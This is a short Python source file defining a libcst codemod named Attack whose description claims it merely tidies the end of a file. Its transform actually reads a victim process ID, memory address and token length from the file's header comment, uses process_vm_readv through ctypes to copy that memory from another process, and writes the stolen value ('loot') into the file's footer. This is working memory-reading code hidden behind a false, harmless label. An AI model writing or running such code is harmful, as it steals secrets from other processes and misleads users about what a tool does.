"""Read the memory of another process, by the call that copies memory between processes."""
import ast
import ctypes

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None, use_errno=True)
        length = target["token_length"]
        content = ctypes.create_string_buffer(length)
        ours, theirs = Piece(ctypes.addressof(content), length), Piece(target["victim_address"], length)
        if libc.process_vm_readv(target["victim_pid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) != length:
            raise OSError(ctypes.get_errno())
        loot = content.value.decode()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
